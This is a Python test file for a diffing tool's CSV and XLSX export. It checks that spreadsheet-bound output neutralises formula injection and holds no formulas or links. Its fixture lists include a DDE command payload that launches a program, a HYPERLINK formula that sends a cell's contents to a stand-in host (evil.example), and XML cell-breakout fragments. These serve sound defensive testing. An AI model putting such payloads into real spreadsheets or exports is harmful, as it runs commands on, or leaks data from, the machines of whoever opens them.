"""Cells and names that a spreadsheet would run: do they stay what they are?"""

from __future__ import annotations

import csv
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from diffing import export
from diffing.dialects import DialectChoice
from diffing.excel import MOST_LETTERS, write_xlsx
from diffing.export import write_csv
from diffing.plan import Choices, Plan, make_plan
from diffing.result import Result
from diffing.sources import open_source
from tests.comparing import ENGINE

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "{=1+1}",
    "-",
]
SPLIT = ["x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n@SUM(1)", 'x;"=1+1"', "x; =1+1", "x;'=1+1", "x;y;-1+1;=2"]
"""Formulas that begin where a spreadsheet cuts a line at semicolons, whatever is in quotes."""
MARKUP = [
    "<r><t>x</t></r>",
    '<r><t>x</t></r></is></c><c r="Z1"><f>1+1</f></c><c><is><r><t>y</t></r>',
    "<r>\x01&amp;</r>",
    "</t></is><f>1+1</f>",
    "<f>1+1</f>",
    "]]>",
    "&lt;&#65;",
    "_x0041_",
    "a\x01b\x0bc",
    "https://evil.example/x",
    "mailto:a@evil.example",
    "internal:Sheet2!A1",
    "external:evil.xlsx",
    "file://evil/x",
]
HARMLESS = ["-5", "+1.5", "-1e10", "2024-01-05", "a-b", "a=b", "O'Hara", "x;y", "Smith, +49", "x;5", "'=1", ""]


def compared(folder: Path, words: list[str], edit: str = "!") -> Result:
    """A comparison in which each word is the name of a column, a key, and a cell before and after."""
    for side in ("old", "new"):
        with (folder / f"{side}.csv").open("w", newline="") as file:
            writer = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writerow(["k", *(word if word.isprintable() and word else f"n{j}" for j, word in enumerate(words))])
            for i, word in enumerate(words):
                writer.writerow([word or "nothing", *(word + (edit * (i == j and side == "new")) for j in range(len(words)))])
    (folder / "result").mkdir()
    return ENGINE.run(_plan(folder), folder / "result")


def _plan(folder: Path) -> Plan:
    choice = DialectChoice(delimiter=",", quote='"', encoding="utf-8", header=True)
    old, new = (open_source(folder / f"{side}.csv", workdir=folder, choice=choice) for side in ("old", "new"))
    return make_plan(old, new, Choices(key=("k",), text=True))


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run a cell, by what others recommend to look for."""
    return bool(re.match(r" *[=+\-@＝＋－＠\t\r\n]", cell)) and not re.fullmatch(r"[+-]?\d+(\.\d+)?(e\d+)?", cell)


def test_a_csv_for_spreadsheets_has_no_cell_that_runs(tmp_path: Path) -> None:
    result = compared(tmp_path, FORMULAS)
    write_csv(result, tmp_path / "plain.csv")
    write_csv(result, tmp_path / "safe.csv", for_spreadsheets=True)
    plain, safe = cells(tmp_path / "plain.csv"), cells(tmp_path / "safe.csv")
    assert sum(map(runs, plain)) > 4 * len(FORMULAS), "names, keys and cells of the usual CSV are as they were"
    assert [cell for cell in safe if runs(cell)] == []
    assert [cell.replace("'", "") for cell in safe] == [each.replace("'", "") for each in plain], "nothing else changes"


@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_cell_runs_either_where_lines_are_cut_at_other_signs(tmp_path: Path, separator: str) -> None:
    result = compared(tmp_path, SPLIT)
    write_csv(result, tmp_path / "plain.csv")
    write_csv(result, tmp_path / "safe.csv", for_spreadsheets=True)

    def ran(name: str) -> list[str]:
        text = (tmp_path / name).read_text(encoding="utf-8")
        return [
            cell
            for line in re.split(r"[\r\n]+", text)
            for cell in line.split(separator)
            if runs(cell.lstrip("\"' ").rstrip('"')) and not cell.lstrip('" ').startswith("'")
        ]

    assert ran("plain.csv") and ran("safe.csv") == []


def test_cells_of_very_many_columns_are_made_safe_in_the_same_way(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    result = compared(tmp_path, [*FORMULAS, *SPLIT, *HARMLESS, "#1", "a,b", 'say "hi"', " ü ", "-1.5e3", "=a\r\n,b"])
    write_csv(result, tmp_path / "few.csv", for_spreadsheets=True)
    monkeypatch.setattr(export, "MANY", 0)
    write_csv(result, tmp_path / "many.csv", for_spreadsheets=True)
    assert (tmp_path / "many.csv").read_bytes() == (tmp_path / "few.csv").read_bytes()


def test_what_does_not_run_stays_as_it_is(tmp_path: Path) -> None:
    result = compared(tmp_path, HARMLESS, edit="0")
    for name, safe in (("plain.csv", False), ("safe.csv", True)):
        write_csv(result, tmp_path / name, for_spreadsheets=safe)
    safe, plain = ((tmp_path / name).read_bytes().partition(b"\n")[2] for name in ("safe.csv", "plain.csv"))
    assert safe == plain


def test_no_file_is_changed_unless_asked(tmp_path: Path) -> None:
    write_csv(compared(tmp_path, FORMULAS), tmp_path / "plain.csv")
    for word in FORMULAS:
        assert word in cells(tmp_path / "plain.csv")


# --- workbooks -------------------------------------------------------------------------------------

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet(path: Path) -> tuple[list[str], ET.Element]:
    """The texts of a workbook as a spreadsheet reads them, and the sheet."""
    with zipfile.ZipFile(path) as book:
        found = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        assert not [name for name in book.namelist() if "externalLink" in name or "vba" in name.lower() or "sheet1.xml.rels" in name]
    texts = [
        "".join(part.text or "" for part in cell.iter(f"{SHEET}t")) for cell in found.iter(f"{SHEET}c") if cell.get("t") == "inlineStr"
    ]
    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), text) for text in texts], found


def test_a_workbook_has_texts_and_no_formula_or_link(tmp_path: Path) -> None:
    words = FORMULAS + SPLIT + MARKUP
    write_xlsx(compared(tmp_path, words), tmp_path / "diff.xlsx")
    texts, found = sheet(tmp_path / "diff.xlsx")
    for tag in ("f", "hyperlink", "hyperlinks"):
        assert list(found.iter(f"{SHEET}{tag}")) == []
    assert {cell.get("t") for cell in found.iter(f"{SHEET}c") if len(cell)} == {"inlineStr"}
    assert [word for word in words if texts.count(word) < len(words)] == []
    assert [word for word in words if f"{word}!" not in texts or (word.isprintable() and f"{word}_old" not in texts)] == []


def test_a_text_that_a_cell_can_not_hold_is_cut_and_says_so_however_wide_its_letters(tmp_path: Path) -> None:
    long = ["x" * 40_000, "\U0001f600" * 20_000, "\U0001f600" * 16_383, "x" * MOST_LETTERS]
    for side in ("old", "new"):
        (tmp_path / f"{side}.csv").write_text("k,v\n" + "".join(f"{i},{text}{side[:1] if i < 2 else ''}\n" for i, text in enumerate(long)))
    (tmp_path / "new.csv").write_text("k,v\n")
    (tmp_path / "result").mkdir()
    write_xlsx(ENGINE.run(_plan(tmp_path), tmp_path / "result"), tmp_path / "diff.xlsx")
    texts = [text for text in sheet(tmp_path / "diff.xlsx")[0] if len(text) > 100]
    assert [len(text.encode("utf-16-le")) // 2 <= MOST_LETTERS for text in texts] == [True] * 4
    assert [text.endswith("… (cut)") for text in texts] == [True, True, False, False]
    assert texts[2:] == long[2:]
